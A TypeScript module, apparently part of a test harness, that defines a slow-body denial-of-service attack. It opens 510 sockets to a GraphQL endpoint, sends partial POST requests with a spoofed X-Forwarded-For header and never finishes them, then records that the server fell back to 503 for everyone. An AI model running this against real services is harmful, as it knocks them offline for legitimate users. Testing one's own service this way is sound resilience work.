import { once } from 'node:events';
import { connect } from 'node:net';
import { ATTACKER, type Attack } from './attack.ts';
import { keepOpen } from './flood.ts';

const HEAD = [
  'POST /graphql HTTP/1.1',
  'Host: localhost',
  `X-Forwarded-For: ${ATTACKER}`,
  'Content-Type: application/json',
  'Content-Length: 1000',
  '',
  '{"query":',
].join('\r\n');

export const unfinishedBodies: Attack = {
  name: '510 bodies that never end',
  promise: '16 of a network, each for 20 s',
  found: '503 for everybody, for 300 s',
  keepsToBudget: false,
  run: ({ url }, until) =>
    keepOpen(until, 510, async () => {
      const { hostname, port } = new URL(url);
      const socket = connect({ host: hostname, port: Number(port), signal: until });
      socket.on('error', () => undefined).resume();
      socket.write(HEAD);
      await once(socket, 'close');
    }),
};
